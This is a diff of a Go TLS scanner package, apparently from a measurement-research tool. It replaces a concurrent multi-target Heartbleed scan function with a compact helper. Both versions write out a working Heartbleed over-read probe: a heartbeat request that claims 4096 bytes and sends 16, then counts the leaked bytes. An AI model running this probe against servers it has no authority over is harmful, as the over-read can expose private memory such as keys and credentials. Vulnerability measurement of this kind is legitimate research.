@@ -1,173 +1,47 @@
 package scanner
 
 import (
-	"context"
-	"fmt"
-	"math/rand"
-	"sync"
+	"net"
 	"time"
 
 	"tlsage/internal/registry"
 	"tlsage/internal/wire"
 )
 
-// HeartbleedResult is the outcome of one exploit check.
-type HeartbleedResult struct {
-	Target string
-	Err    error
-	// HeartbeatAck: the server negotiated the heartbeat extension.
-	HeartbeatAck bool
-	// Vulnerable: the server echoed more bytes than were sent — the
-	// Heartbleed over-read.
-	Vulnerable bool
-	// LeakedBytes is how many bytes beyond the sent payload came back.
-	LeakedBytes int
-}
-
-// hbClaim and hbSent parameterize the probe: claim hbClaim bytes, send
-// hbSent. A compliant server discards the request; a vulnerable one answers
-// with hbClaim bytes.
+// hbClaim and hbSent parameterize the Heartbleed check: claim hbClaim
+// bytes, send hbSent. A compliant server discards the request; a
+// vulnerable one answers with hbClaim bytes.
 const (
 	hbClaim = 4096
 	hbSent  = 16
 )
 
-// ScanHeartbleed probes every target with the actual exploit check the
-// paper's scan data relied on (§5.4): negotiate heartbeat, then send a
-// heartbeat request whose claimed payload length exceeds its real payload
-// and observe whether the server echoes the over-read.
-func (s *Scanner) ScanHeartbleed(ctx context.Context, targets []string) ([]HeartbleedResult, error) {
-	hello := Chrome2015().Build(rand.New(rand.NewSource(0xb1eed)))
-	helloBytes, err := hello.AppendRecord(nil)
-	if err != nil {
-		return nil, err
-	}
-	workers := s.Workers
-	if workers <= 0 {
-		workers = 32
-	}
-	if workers > len(targets) && len(targets) > 0 {
-		workers = len(targets)
-	}
-	jobs := make(chan string)
-	results := make(chan HeartbleedResult)
-	var wg sync.WaitGroup
-	for i := 0; i < workers; i++ {
-		wg.Add(1)
-		go func() {
-			defer wg.Done()
-			for target := range jobs {
-				res := s.heartbleedProbe(ctx, target, helloBytes)
-				select {
-				case results <- res:
-				case <-ctx.Done():
-					return
-				}
-			}
-		}()
-	}
-	go func() {
-		defer close(jobs)
-		for _, t := range targets {
-			select {
-			case jobs <- t:
-			case <-ctx.Done():
-				return
-			}
-		}
-	}()
-	go func() {
-		wg.Wait()
-		close(results)
-	}()
-	out := make([]HeartbleedResult, 0, len(targets))
-	for r := range results {
-		out = append(out, r)
-	}
-	if err := ctx.Err(); err != nil {
-		return out, err
-	}
-	return out, nil
-}
-
-func (s *Scanner) heartbleedProbe(ctx context.Context, target string, helloBytes []byte) HeartbleedResult {
-	res := HeartbleedResult{Target: target}
-	timeout := s.Timeout
-	if timeout <= 0 {
-		timeout = 5 * time.Second
-	}
-	dialCtx, cancel := context.WithTimeout(ctx, timeout)
-	defer cancel()
-	conn, err := s.Dialer.DialContext(dialCtx, "tcp", target)
-	if err != nil {
-		res.Err = err
-		return res
-	}
-	defer conn.Close()
-	_ = conn.SetDeadline(time.Now().Add(timeout))
-
-	if _, err := conn.Write(helloBytes); err != nil {
-		res.Err = err
-		return res
-	}
-	rec, err := wire.ReadRecord(conn)
-	if err != nil || rec.Type != wire.ContentHandshake {
-		res.Err = fmt.Errorf("scanner: no server hello: %v", err)
-		return res
-	}
-	typ, body, _, err := wire.DecodeHandshake(rec.Payload)
-	if err != nil || typ != wire.TypeServerHello {
-		res.Err = fmt.Errorf("scanner: unexpected handshake")
-		return res
-	}
-	var sh wire.ServerHello
-	if err := sh.DecodeFromBytes(body); err != nil {
-		res.Err = err
-		return res
-	}
-	if !sh.AcksHeartbeat() {
-		return res // no heartbeat: cannot be Heartbleed-vulnerable
-	}
-	res.HeartbeatAck = true
-
-	// The exploit: claim hbClaim bytes, send hbSent.
-	req := wire.HeartbeatMessage{
-		Type:          wire.HeartbeatRequest,
-		PayloadLength: hbClaim,
-		Payload:       make([]byte, hbSent),
-	}
+// overRead runs the exploit check the paper's scan data relied on (§5.4)
+// on a connection whose server has just acked heartbeat: send a request
+// whose claimed payload length exceeds its real payload and return how many
+// bytes beyond the sent payload come back. Patched servers discard the
+// request silently, so a read that fails within wait means 0.
+func overRead(conn net.Conn, wait time.Duration) int {
+	req := wire.HeartbeatMessage{Type: wire.HeartbeatRequest, PayloadLength: hbClaim, Payload: make([]byte, hbSent)}
 	raw, err := req.MarshalBinary()
 	if err != nil {
-		res.Err = err
-		return res
+		return 0
 	}
 	out, err := wire.AppendRecord(nil, wire.ContentHeartbeat, registry.VersionTLS12, raw)
 	if err != nil {
-		res.Err = err
-		return res
+		return 0
 	}
 	if _, err := conn.Write(out); err != nil {
-		res.Err = err
-		return res
+		return 0
 	}
-	// Patched servers discard the malformed request silently — a read
-	// timeout means "not vulnerable".
-	_ = conn.SetReadDeadline(time.Now().Add(timeout / 4))
+	_ = conn.SetReadDeadline(time.Now().Add(wait))
 	resp, err := wire.ReadRecord(conn)
 	if err != nil || resp.Type != wire.ContentHeartbeat {
-		return res
+		return 0
 	}
 	var hb wire.HeartbeatMessage
 	if err := hb.BuggyDecode(resp.Payload); err != nil || hb.Type != wire.HeartbeatResponse {
-		return res
+		return 0
 	}
-	payloadLen := int(hb.PayloadLength)
-	if payloadLen > len(hb.Payload) {
-		payloadLen = len(hb.Payload)
-	}
-	if payloadLen > hbSent {
-		res.Vulnerable = true
-		res.LeakedBytes = payloadLen - hbSent
-	}
-	return res
+	return max(0, min(int(hb.PayloadLength), len(hb.Payload))-hbSent)
 }
